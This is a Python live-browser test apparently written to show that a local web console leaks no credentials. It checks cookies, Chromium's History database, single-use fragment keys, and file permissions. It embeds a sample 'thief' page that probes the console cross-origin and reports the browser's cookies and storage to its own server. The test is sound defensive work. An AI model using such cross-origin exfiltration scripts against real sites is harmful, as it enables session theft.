"""No credential leaves the console's page (issue 33), in a real headless Chromium against a live run: the page sets
no cookie, so a page on another port of 127.0.0.1 that the person visits receives nothing that opens the console;
the printed address's key is taken from the fragment and spent, so the one in Chromium's History database opens
nothing, and neither the run's secret nor the page's session key is in it; the run's logs and state, where the
console's address is written, are 0600 in 0700 folders."""

from __future__ import annotations

import http.client
import http.server
import json
import sqlite3
import threading
from urllib.parse import unquote

import pytest

from common.wire.transport import free_port

from .harness import WebRun, browser, open_console, port_of

pytestmark = [pytest.mark.live, pytest.mark.browser, pytest.mark.timeout(400)]

# A page on another local port: it tries the console with whatever the browser sends by itself, and reports back
# to its own server everything it could see.
THIEF = """<!doctype html><script>
const seen = window.seen = {cookie: document.cookie,
                            stored: JSON.stringify(sessionStorage) + JSON.stringify(localStorage)};
const report = () => fetch("/report?" + encodeURIComponent(JSON.stringify(seen)));
fetch("http://127.0.0.1:PORT/settings", {credentials: "include"}).then(
  (r) => { seen.fetch = r.status; }, () => { seen.fetch = "blocked"; }).finally(() => {
  const ws = new WebSocket("ws://127.0.0.1:PORT/ws");
  ws.onopen = () => { seen.ws = "open"; report(); };
  ws.onclose = () => { if (!seen.ws) { seen.ws = "refused"; report(); } };
});
</script>"""


class Recorder(http.server.BaseHTTPRequestHandler):
    """Serves THIEF and records every request it gets (path and headers)."""

    page = b""
    seen: list[dict] = []

    def do_GET(self):  # noqa: N802 (the stdlib's name)
        self.seen.append({"path": self.path, "headers": dict(self.headers)})
        body = self.page if self.path.startswith("/thief") else b"ok"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def enter(port: int, entry: str) -> int:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    conn.request("POST", "/enter", headers={"Host": f"127.0.0.1:{port}", "Authorization": f"Bearer {entry}"})
    status = conn.getresponse().status
    conn.close()
    return status


def test_another_port_learns_nothing_and_history_holds_no_usable_key(tmp_path):
    from playwright.sync_api import sync_playwright

    run = WebRun(tmp_path, "leak", "--env", "maze", "--layout", "2", "--episodes", "400", "--max-steps", "6000")
    evil_port = free_port()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", evil_port), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    profile = tmp_path / "profile"
    try:
        url = run.url()
        port = port_of(url)
        Recorder.page = THIEF.replace("PORT", str(port)).encode()
        secret = (run.rundir / "state" / "teacher.web.token").read_text().strip()
        with sync_playwright() as pw:
            ctx = browser(pw, profile)
            page = open_console(ctx, url)
            assert page.url == f"http://127.0.0.1:{port}/"  # the key is gone from the address bar
            key = page.evaluate("sessionStorage.getItem('hitl-console-key')")
            assert key.startswith("s.") and page.evaluate("document.cookie") == "" and ctx.cookies() == []

            page.click("#invite")  # another tab: the page hands out a fresh one-use address
            page.wait_for_function("document.getElementById('invited').value.includes('#token=e.')")
            second = open_console(ctx, page.input_value("#invited"))
            assert second.evaluate("hitl.me") == "web-2"
            second.close()

            thief = ctx.new_page()
            thief.goto(f"http://127.0.0.1:{evil_port}/thief.html")
            thief.wait_for_function("window.seen && window.seen.ws", timeout=30_000)
            got = thief.evaluate("seen")
            assert got["ws"] == "refused" and got["fetch"] in (403, "blocked") and got["cookie"] == "", got
            assert page.evaluate("Boolean(hitl.ws && hitl.ws.readyState === 1)")  # the person's page goes on
            ctx.close()  # (Chromium writes its History database)
        reports = [r for r in Recorder.seen if r["path"].startswith("/report")]
        assert len(reports) == 1 and json.loads(unquote(reports[0]["path"].split("?", 1)[1]))["stored"] == "{}{}"
        everything = json.dumps(Recorder.seen)
        assert "Cookie" not in everything and "cookie" not in [h.lower() for r in Recorder.seen for h in r["headers"]]
        for secretish in (secret, key, url.split("#token=")[1]):
            assert secretish not in everything

        history = sqlite3.connect(profile / "Default" / "History")
        urls = [u for (u,) in history.execute("select url from urls")]
        history.close()
        assert any(u.startswith(f"http://127.0.0.1:{port}/") for u in urls), urls
        in_history = [u.split("#token=", 1)[1] for u in urls if "#token=" in u]
        assert in_history, urls  # Chromium keeps the address it was given, fragment and all
        for entry in in_history:  # its key is spent
            assert enter(port, entry) == 403, entry
        assert enter(port, run.another_address().split("#token=")[1]) == 200  # (a fresh one would open)
        text = (profile / "Default" / "History").read_bytes()
        assert secret.encode() not in text and key.encode() not in text
    finally:
        server.shutdown()
        run.close()
    assert_private(run.rundir, secret)


def assert_private(rundir, secret: str) -> None:
    """The run's folders are 0700 and its logs and state 0600: the console's keys are in no file another local
    user can read; the run's secret is in no log at all."""
    assert rundir.stat().st_mode & 0o777 == 0o700
    for sub in ("logs", "state", "credentials"):
        assert (rundir / sub).stat().st_mode & 0o777 == 0o700, sub
        files = [f for f in (rundir / sub).rglob("*") if f.is_file()]
        assert files and all(f.stat().st_mode & 0o777 == 0o600 for f in files), [
            (f.name, oct(f.stat().st_mode)) for f in files
        ]
    logs = [f.read_text(errors="replace") for f in (rundir / "logs").glob("*.log")]
    assert any("#token=" in text for text in logs) and not any(secret in text for text in logs)
